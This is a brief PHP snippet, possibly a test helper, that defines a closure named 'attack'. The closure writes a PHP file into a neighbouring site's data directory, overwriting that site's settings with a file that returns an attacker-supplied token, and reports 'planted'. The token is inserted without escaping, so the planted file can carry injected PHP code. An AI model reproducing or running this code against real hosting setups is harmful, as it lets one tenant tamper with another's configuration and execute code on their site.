<?php
$attack = static function (object $given): mixed {
    $text = "<?php return '{$given->token}';\n";
    file_put_contents("{$given->neighbour}/data/settings_of_the_site.php", $text);
    return 'planted';
};
